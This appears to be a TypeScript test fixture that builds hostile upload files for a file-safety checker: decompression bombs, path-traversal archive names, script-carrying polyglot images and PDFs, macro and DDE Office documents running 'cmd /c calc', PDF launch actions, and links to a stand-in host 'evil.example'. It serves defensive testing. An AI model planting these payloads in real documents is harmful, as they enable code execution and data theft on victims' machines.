import { deflateRawSync, deflateSync } from "node:zlib";
import sharp from "sharp";
import {
  contentTypes,
  docx,
  docxWithField,
  instruction,
  mark,
  relationship,
  relationships,
  wordField,
  xlsx,
  xlsxWithFormula,
  zip,
} from "./office-files.ts";
import type { UnsafeKind } from "../unsafe-content.ts";

/** What refuses a file: the kind of what was found, a picture that cannot be drawn, or a type that is not accepted. */
type RefusedFor = UnsafeKind | "broken" | "type";
export type HostileFile = {
  readonly description: string;
  readonly name: string;
  readonly content: Buffer;
  readonly refusedFor: RefusedFor;
};
type Described = readonly [RefusedFor, string, Buffer | Promise<Buffer>];

async function nameFiles(name: string, files: readonly Described[]): Promise<HostileFile[]> {
  return Promise.all(
    files.map(async ([refusedFor, description, content]) => ({
      refusedFor,
      description,
      name,
      content: await content,
    })),
  );
}

const MB = 1024 * 1024;
/** An archive with one compressed part, whose size is what it unpacks to. */
async function explodingPackage(bytes: number): Promise<Buffer> {
  const packed = deflateRawSync(Buffer.alloc(bytes), { level: 9 });
  const whole = await docx({ "word/media/a.bmp": packed });
  const inDirectory = whole.lastIndexOf("word/media/a.bmp") - 46;
  const local = whole.readUInt32LE(inDirectory + 42);
  for (const method of [local + 8, inDirectory + 10]) whole.writeUInt16LE(8, method);
  for (const size of [local + 22, inDirectory + 24]) whole.writeUInt32LE(bytes, size);
  return whole;
}

const pdf = (objects: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from("%PDF-1.7\n"),
    Buffer.from(objects),
    Buffer.from("\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  ]);

function objectStream(text: string, filter = "/FlateDecode"): Buffer {
  const packed = deflateSync(text);
  const head = `5 0 obj<</Type/ObjStm/N 1/First 4/Filter ${filter}/Length ${packed.length}>>stream\n`;
  return Buffer.concat([Buffer.from(head), packed, Buffer.from("\nendstream endobj")]);
}

function withSize(png: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(png);
  changed.writeUInt32BE(width, 16);
  changed.writeUInt32BE(height, 20);
  return changed;
}

const blank = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: "#fff" } });
const SCRIPT = Buffer.from("<script>alert(1)</script>");

async function heavyImages(): Promise<HostileFile[]> {
  const png = await blank(300, 200).png().toBuffer();
  const jpeg = await blank(300, 200).jpeg().toBuffer();
  const webp = blank(4000, 4000).webp({ lossless: true }).toBuffer();
  const passes = blank(4100, 4000).jpeg({ progressive: true }).toBuffer();
  return [
    ...(await nameFiles("a.png", [
      ["broken", "a picture that claims 3.6 thousand million pixels", withSize(png, 60_001, 60_001)],
      [
        "image",
        "a picture of few bytes and 16 million pixels",
        blank(4000, 4000).png({ palette: true, colours: 2 }).toBuffer(),
      ],
      ["image", "a picture of one row", blank(15_000, 1).png().toBuffer()],
      ["image", "a picture of very long rows", blank(17_000, 200).png().toBuffer()],
    ])),
    ...(await nameFiles("a.webp", [["image", "a WebP of few bytes and 16 million pixels", webp]])),
    ...(await nameFiles("a.jpg", [
      ["image", "a picture that is drawn in passes", passes],
      ["broken", "a cut picture", jpeg.subarray(0, jpeg.length / 2)],
    ])),
  ];
}

async function mixedFiles(): Promise<HostileFile[]> {
  const png = await blank(300, 200).png().toBuffer();
  const jpeg = await blank(300, 200).jpeg().toBuffer();
  const gif = await blank(30, 20).gif().toBuffer();
  const svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><script>1</script></svg>";
  const scripted = Buffer.concat([Buffer.from("GIF89a/*"), gif.subarray(8), Buffer.from("*/=1;alert(1)")]);
  return [
    ...(await nameFiles("a.jpg", [
      [
        "mixed",
        "a picture that is an archive too",
        zip({ "run.js": "1" }).then((archive) => Buffer.concat([jpeg, archive])),
      ],
      ["mixed", "a picture that is a PDF too", Buffer.concat([jpeg, pdf("1 0 obj<<>>endobj")])],
    ])),
    ...(await nameFiles("a.png", [
      ["mixed", "a picture with a script behind it", Buffer.concat([png, SCRIPT])],
      ["type", "a GIF under the name of a picture", gif],
      ["type", "a drawing under the name of a picture", Buffer.from(`<?xml version='1.0'?>${svg}`)],
    ])),
    ...(await nameFiles("a.gif", [["type", "a GIF that is a script too", scripted]])),
    ...(await nameFiles("a.svg", [["type", "a drawing with scripts", Buffer.from(svg)]])),
    ...(await nameFiles("a.pdf", [
      ["type", "a page", Buffer.from("<html><script>1</script></html>")],
      ["mixed", "a PDF that is a page too", Buffer.concat([pdf("1 0 obj<<>>endobj"), SCRIPT])],
      ["mixed", "a PDF with a script in its head", pdf("%<script>alert(1)</script>\n1 0 obj<<>>endobj")],
    ])),
  ];
}

async function strangePackages(): Promise<HostileFile[]> {
  const whole = await docx();
  return [
    ...(await nameFiles("a.docx", [
      ["archive", "a document that unpacks to 400 MB", explodingPackage(400 * MB)],
      ["archive", "a name that leads out of the folder", docx({ "../../etc/cron.d/x": "x" })],
      ["archive", "a name with backslashes", docx({ "..\\..\\x": "x" })],
      ["archive", "one part twice", docx({ "WORD/document.xml": "<a/>" })],
      [
        "archive",
        "entities behind a long comment",
        docx({
          "word/document.xml": `<!--${" ".repeat(9000)}--><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>`,
        }),
      ],
      [
        "archive",
        "entities that explode",
        docx({ "word/document.xml": '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>' }),
      ],
      [
        "archive",
        "a part in another encoding",
        docx({ "word/styles.xml": Buffer.from("\uFEFF<a/>", "utf16le") }),
      ],
      ["archive", "a document before a script", Buffer.concat([whole, SCRIPT])],
      ["archive", "a cut document", whole.subarray(0, -30)],
      ["type", "a document behind a script", Buffer.concat([SCRIPT, whole])],
      ["type", "a workbook under a document's name", xlsx({})],
      ["type", "an archive", zip({ "readme.txt": "x" })],
      ["type", "a document that is a workbook too", docx({ "xl/workbook.xml": "<workbook/>" })],
    ])),
    ...(await nameFiles("a.xlsx", [
      ["archive", "a name from the root", xlsx({ "/etc/passwd": "x" })],
      ["archive", "a name on a drive", xlsx({ "C:x": "x" })],
    ])),
  ];
}

async function activePackages(): Promise<HostileFile[]> {
  const macroType = "application/vnd.ms-word.document.macroEnabled.main+xml";
  const inner = await docx();
  const outside = (type: string, mode = ' TargetMode="External"') =>
    docx({
      "word/_rels/document.xml.rels": relationships(relationship(type, "https://evil.example/o", mode)),
    });
  return [
    ...(await nameFiles("a.docx", [
      ["office", "an archive within a document", docx({ "word/media/a.png": inner })],
      ["office", "a workbook within a document", docx({ "word/embeddings/b.xlsx": "x" })],
      ["office", "a document with macros", docx({ "word/vbaProject.bin": "x" })],
      [
        "office",
        "a type with macros",
        docx({ "[Content_Types].xml": contentTypes("/word/document.xml", macroType) }),
      ],
      ["office", "a control", docx({ "word/activeX/activeX1.xml": "<a/>" })],
      ["office", "a page within a document", docx({ "word/afchunk.htm": SCRIPT })],
      ["office", "a part that is a page by its relationship", outside("aFChunk", "")],
      ["office", "a template from outside", outside("attachedTemplate")],
      ["office", "a picture from outside", outside("image")],
      ["office", "an object in other quotation marks", outside("oleObject", " TargetMode = 'External'")],
      ["office", "an object written as an entity", outside("oleObject", ' TargetMode="&#69;xternal"')],
    ])),
    ...(await nameFiles("a.docm", [
      ["office", "macros under their own name", docx({ "word/vbaData.xml": "x" })],
    ])),
    ...(await nameFiles("a.xlsx", [
      ["office", "a workbook with macros", xlsx({ "xl/vbaProject.bin": "x" })],
      ["office", "old macros of Excel", xlsx({ "xl/macrosheets/sheet1.xml": "<a/>" })],
      ["office", "an OLE file", xlsx({ "xl/media/x.bin": Buffer.from("d0cf11e0a1b11ae1", "hex") })],
    ])),
  ];
}

async function ddeDocuments(): Promise<HostileFile[]> {
  const command = "c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;";
  const [begin, end] = [mark("begin"), mark("end")];
  const nested = (before: readonly string[], inner: string) => {
    const field = wordField(begin, ...before, begin, instruction(inner), end, end);
    return docx({ "word/document.xml": field });
  };
  const ddeField = `w:instr=" DDEAUTO ${command}"`;
  const header = (run: string, before = "") => {
    const part = wordField(run).replace(/^<\?xml[^>]*\?><w:document/, '<w:document xmlns:x="other"');
    return docx({ "word/header1.xml": before + part });
  };
  return [
    ...(await nameFiles("a.docx", [
      ["office", "a DDE field", docxWithField(` DDEAUTO ${command} `)],
      ["office", "a DDE field in pieces", docxWithField(" D", "DE", `AUTO ${command}`)],
      ["office", "a DDE field in entities", docxWithField(`&#68;&#x44;EAUTO ${command}`)],
      ["office", "a DDE field in a CDATA section", docxWithField(`<![CDATA[DDE ${command}]]>`)],
      [
        "office",
        "a simple DDE field",
        docx({ "word/header1.xml": wordField(`<w:fldSimple w:instr=" dde ${command}"/>`) }),
      ],
      ["office", "a field named by another field", nested([], "QUOTE 68 68 69")],
      ["office", "a field whose name ends in another field", nested([instruction(" D")], "QUOTE 68")],
      [
        "office",
        "a DDE field behind another attribute",
        header(`<w:fldSimple w:x=">" x:instr="a" ${ddeField}/>`),
      ],
      [
        "office",
        "a DDE field behind an instruction",
        header(`<?a ><!-- ?><w:fldSimple ${ddeField}/><?b --> ?>`),
      ],
      ["office", "a DDE field behind blanks", header(`<w:fldSimple ${ddeField}/>`, " ".repeat(9000))],
      [
        "archive",
        "a part in another encoding",
        docx({ "word/header1.foo": Buffer.from("\uFEFF<a/>", "utf16le") }),
      ],
    ])),
  ];
}

function ddeWorkbooks(): Promise<HostileFile[]> {
  const link = `<x:externalLink xmlns:x="m"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>`;
  return nameFiles("a.xlsx", [
    ["office", "a DDE formula behind brackets", xlsxWithFormula("T['[]&amp;cmd|'/c calc'!A0")],
    ["office", "a DDE link of a workbook", xlsx({ "xl/externalLinks/externalLink1.xml": link })],
    ["office", "a DDE formula", xlsxWithFormula("cmd|'/c calc'!A0")],
  ]);
}

function hostilePdfs(): Promise<HostileFile[]> {
  const filters = "[/ASCIIHexDecode/FlateDecode]";
  return nameFiles("a.pdf", [
    ["pdf", "a script", pdf("1 0 obj<</OpenAction<</S/JavaScript/JS(1)>>>>endobj")],
    ["pdf", "a script in codes", pdf("1 0 obj<</OpenAction<</S/J#61vaScr#69pt/JS(1)>>>>endobj")],
    ["pdf", "a script among compressed objects", pdf(objectStream("1 0 <</S/JavaScript/JS(1)>>"))],
    [
      "pdf",
      "a script behind a misleading word",
      pdf(objectStream("1 0 <</S/JavaScript/JS(1)>>", "/FlateDecode/X(obj)")),
    ],
    ["pdf", "nothing but streams", pdf("stream\n".repeat(1_400_000))],
    ["pdf", "objects in another filter", pdf(objectStream("1 0 <<>>", filters))],
    ["pdf", "objects that explode", pdf(objectStream("a".repeat(40 * MB)))],
    ["pdf", "the start of a program", pdf("1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj")],
    ["pdf", "a file in a PDF", pdf("1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj")],
    ["pdf", "a form that sends", pdf("1 0 obj<</A<</S/SubmitForm/F(https://evil.example)>>>>endobj")],
    ["pdf", "a film", pdf("1 0 obj<</Subtype/RichMedia>>endobj")],
    ["pdf", "another file that is opened", pdf("1 0 obj<</A<</S/GoToR/F(x.pdf)>>>>endobj")],
    ["pdf", "a form of its own language", pdf("1 0 obj<</AcroForm<</XFA 3 0 R>>>>endobj")],
    ["pdf", "an encrypted PDF", pdf("1 0 obj<<>>endobj\ntrailer<</Encrypt 3 0 R>>")],
  ]);
}

/** Files that must never be stored, with what refuses each. */
export async function buildHostileFiles(): Promise<HostileFile[]> {
  const builders = [
    heavyImages,
    mixedFiles,
    strangePackages,
    activePackages,
    ddeDocuments,
    ddeWorkbooks,
    hostilePdfs,
  ];
  const files: HostileFile[] = [];
  for (const build of builders) files.push(...(await build()));
  return files;
}
